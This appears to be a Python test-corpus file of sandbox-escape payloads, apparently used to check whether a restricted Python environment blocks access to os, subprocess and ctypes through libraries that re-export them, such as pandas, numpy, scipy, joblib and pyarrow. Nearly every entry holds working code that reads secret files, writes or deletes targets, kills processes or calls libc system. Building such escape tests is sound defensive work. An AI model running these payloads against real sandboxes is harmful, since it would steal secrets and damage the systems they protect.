"""`os`, `sys`, `subprocess` and `open` under the names that other modules give them."""

from tests.escapes.corpus import LOOT, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("library re-exports", "random._os", (LOOT, r"""
import random
loot(random._os)
""", "print(random._urandom(4)); random.SystemRandom.__init__.__globals__['_os'].system('cat {{SECRET}}')")),
    Payload("library re-exports", "statistics.sys and fractions", (LOOT, r"""
import statistics, fractions, decimal
for module in (statistics, fractions, decimal):
    attempt(module.__name__, lambda: [name for name in vars(module) if name in ("sys", "os", "math", "re", "numbers")])
loot(statistics.sys.modules["os"])
""")),
    Payload("library re-exports", "every loaded module that carries os", (LOOT, r"""
import sys
holders = {}
for name, module in sorted(sys.modules.items()):
    for key, value in list(getattr(module, "__dict__", {}).items()):
        if getattr(value, "__name__", "") in ("os", "posix", "subprocess", "socket", "ctypes", "builtins"):
            holders.setdefault(value.__name__, []).append((name, key))
print({key: len(found) for key, found in holders.items()})
module, key = holders["os"][-1]
loot(getattr(sys.modules[module], key))
module, key = (holders.get("socket") or [("socket", "socket")])[0]
attempt("socket", lambda: __import__("socket").create_connection(("127.0.0.1", {{PORT}}), 1))
""")),
    Payload("library re-exports", "pandas.io.common.os", (LOOT, r"""
import pandas
loot(pandas.io.common.os)
attempt("handle", lambda: pandas.io.common.get_handle("{{SECRET}}", "r").handle.read())
attempt("write", lambda: pandas.io.common.get_handle("{{TARGET}}", "a").handle.write("owned"))
attempt("url", lambda: pandas.io.common.urlopen("http://127.0.0.1:{{PORT}}/"))
""")),
    Payload("library re-exports", "pandas compat and testing", (LOOT, r"""
import pandas, pandas._testing as tm
attempt("compat", lambda: pandas.compat.pickle_compat)
attempt("ensure", lambda: tm.ensure_clean)
attempt("sys", lambda: loot(pandas.core.common.builtins.__import__("os")))
attempt("platform", lambda: pandas.util._print_versions.os.popen("cat {{SECRET}}").read())
attempt("locale", lambda: pandas._config.localization.subprocess.run(["cat", "{{SECRET}}"], capture_output=True))
""")),
    Payload("library re-exports", "numpy.f2py, distutils and testing", (LOOT, r"""
import numpy
attempt("testing", lambda: loot(numpy.testing._private.utils.os))
attempt("runstring", lambda: numpy.testing.rundocs("{{SECRET}}"))
attempt("f2py", lambda: __import__("numpy.f2py", fromlist=["x"]).subprocess.check_output(["cat", "{{SECRET}}"]))
attempt("crackfortran", lambda: __import__("numpy.f2py.crackfortran", fromlist=["x"]).crackfortran(["{{SECRET}}"]))
attempt("exec", lambda: numpy.testing._private.utils.runstring("import os; os.kill({{PID}}, 9)", {}))
attempt("npyio", lambda: numpy.lib._npyio_impl.os.popen("cat {{SECRET}}").read())
""")),
    Payload("library re-exports", "numpy.ctypeslib loads a library", (LOOT, r"""
import numpy.ctypeslib
c = numpy.ctypeslib.ctypes
libc = numpy.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu")
buffer = c.create_string_buffer(4096)
fd = libc.open(b"{{SECRET}}", 0)
print(fd, libc.read(fd, buffer, 4096), buffer.value)
print(libc.system(b"echo owned >> {{TARGET}}"), libc.kill({{PID}}, 9))
""")),
    Payload("library re-exports", "scipy, sklearn and joblib", (LOOT, r"""
import scipy, sklearn, joblib
attempt("scipy", lambda: loot(__import__("scipy.io._fast_matrix_market", fromlist=["x"]).os))
attempt("ccallback", lambda: scipy._lib._ccallback.ctypes.CDLL(None).system(b"cat {{SECRET}}"))
attempt("datasets", lambda: __import__("sklearn.datasets._base", fromlist=["x"]).os.popen("cat {{SECRET}}").read())
attempt("joblib", lambda: joblib.disk.os.chmod("{{TARGET}}", 0o777))
attempt("cpu", lambda: joblib.externals.loky.backend.context.subprocess.check_output("cat {{SECRET}}", shell=True))
attempt("delete", lambda: joblib.disk.delete_folder("{{TARGETDIR}}"))
""")),
    Payload("library re-exports", "statsmodels, patsy and formulaic", (LOOT, r"""
import statsmodels.api
import statsmodels.datasets.utils as utils
attempt("os", lambda: loot(utils.os))
attempt("open", lambda: utils.StringIO and open("{{SECRET}}").read())
attempt("url", lambda: utils._urlopen_cached("http://127.0.0.1:{{PORT}}/x", None))
attempt("patsy", lambda: __import__("patsy").eval.EvalEnvironment([globals()]).eval("open('{{SECRET}}').read()"))
attempt("tools", lambda: statsmodels.tools.print_version.os.popen("cat {{SECRET}}").read())
""")),
    Payload("library re-exports", "altair and vl-convert", (LOOT, r"""
import altair
import altair.utils.server, altair.utils.data
attempt("webbrowser", lambda: altair.utils.server.webbrowser.open("http://127.0.0.1:{{PORT}}/"))
attempt("server", lambda: altair.utils.server.generate_handler("x"))
attempt("json", lambda: altair.utils.data.to_json([1], prefix="{{TARGETDIR}}/owned"))
attempt("core", lambda: loot(altair.utils.core.sys.modules["os"]))
attempt("pathlib", lambda: altair.utils.data.pathlib.Path("{{TARGETDIR}}/x").write_text("owned"))
""")),
    Payload("library re-exports", "duckdb and pyarrow", (LOOT, r"""
import duckdb, pyarrow, pyarrow.fs
attempt("sys", lambda: loot(__import__("sys").modules["os"]))
attempt("fs", lambda: pyarrow.fs.LocalFileSystem().open_input_file("{{SECRET}}").read())
attempt("map", lambda: pyarrow.memory_map("{{SECRET}}").read())
attempt("osfile", lambda: pyarrow.OSFile("{{TARGET}}", "wb").write(b"owned"))
attempt("uri", lambda: pyarrow.fs.FileSystem.from_uri("file://{{SECRET}}")[0].open_input_stream("{{SECRET}}").read())
attempt("s3", lambda: pyarrow.fs.S3FileSystem(endpoint_override="127.0.0.1:{{PORT}}", scheme="http", anonymous=True,
        connect_timeout=1, request_timeout=1).get_file_info("x/y"))
attempt("delete", lambda: pyarrow.fs.LocalFileSystem().delete_file("{{TARGET}}"))
""")),
    Payload("library re-exports", "small doors of the standard library", (LOOT, r"""
import code, pdb, timeit, trace, cProfile, profile, doctest, bdb, site, pydoc, platform, shutil, glob, fileinput, tempfile
for module in (code, pdb, timeit, trace, cProfile, doctest, bdb, site, pydoc, platform, shutil, glob, fileinput, tempfile):
    found = getattr(module, "os", None) or getattr(module, "_os", None)
    print(module.__name__, found)
loot(tempfile._os)
print(list(fileinput.input("{{SECRET}}")))
attempt("copy", lambda: shutil.copy("{{SECRET}}", "{{TARGETDIR}}/owned"))
attempt("platform", lambda: platform._syscmd_ver() or platform.freedesktop_os_release())
attempt("pager", lambda: pydoc.pipepager("x", "cat {{SECRET}}; echo owned >> {{TARGET}}"))
""")),
    Payload("library re-exports", "codecs, io, _io, pathlib, mmap, tokenize", (TRY, r"""
import codecs, io, _io, _pyio, pathlib, mmap, tokenize, linecache, os
for opener in (codecs.open, io.open, _io.open, _pyio.open, io.FileIO, _io.FileIO, tokenize.open, io.open_code):
    attempt(repr(opener), lambda: opener("{{SECRET}}"))
print(linecache.getlines("{{SECRET}}"), attempt("path", pathlib.Path("{{SECRET}}").read_text))
attempt("mmap", lambda: mmap.mmap(os.open("{{SECRET}}", 0), 0, prot=1)[:])
attempt("rw", lambda: mmap.mmap(os.open("{{TARGET}}", 2), 0).__setitem__(0, 65))
attempt("write", lambda: _pyio.open("{{TARGET}}", "w").write("owned"))
attempt("touch", pathlib.Path("{{TARGETDIR}}/owned").touch)
attempt("rename", lambda: pathlib.Path("{{TARGET}}").rename("{{TARGETDIR}}/moved"))
""")),
    Payload("library re-exports", "configparser, csv, sqlite3, dbm, tarfile, zipfile", (TRY, r"""
import configparser, sqlite3, dbm.dumb, tarfile, zipfile, gzip, bz2, lzma, wave, mailbox, netrc, plistlib, os
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("config", lambda: configparser.RawConfigParser(allow_no_value=True).read("{{SECRET}}"))
attempt("sqlite", lambda: sqlite3.connect("{{TARGETDIR}}/owned.db").execute("create table t(x)"))
attempt("attach", lambda: sqlite3.connect(":memory:").execute("attach '{{TARGET}}' as t").execute("create table t.x(y)"))
attempt("extension", lambda: sqlite3.connect(":memory:").enable_load_extension(True))
attempt("dbm", lambda: dbm.dumb.open("{{TARGETDIR}}/owned", "n"))
attempt("tar", lambda: tarfile.open(tmp + "/t.tar", "w").add("{{SECRET}}", "x"))
attempt("tarred", lambda: open(tmp + "/t.tar", "rb").read())
attempt("zip", lambda: zipfile.ZipFile(tmp + "/z.zip", "w").write("{{SECRET}}"))
attempt("gzip", lambda: gzip.open("{{TARGETDIR}}/owned.gz", "w"))
attempt("mailbox", lambda: mailbox.mbox("{{SECRET}}").keys())
attempt("netrc", lambda: netrc.netrc("{{SECRET}}"))
""")),
]
